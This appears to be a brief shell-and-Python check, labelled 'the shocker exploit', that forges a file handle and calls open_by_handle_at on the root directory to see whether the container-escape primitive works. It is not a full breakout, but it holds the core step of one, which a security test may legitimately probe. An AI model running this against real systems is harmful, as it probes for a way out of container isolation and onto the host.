# Opens a file by a handle that it made up: the shocker exploit.
python3 - <<'PY'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 8)]
handle = Handle(8, 1, (ctypes.c_ubyte * 8)(2))
root = os.open("/", os.O_RDONLY)
sys.exit(1 if libc.open_by_handle_at(root, ctypes.byref(handle), 0) < 0 else 0)
PY
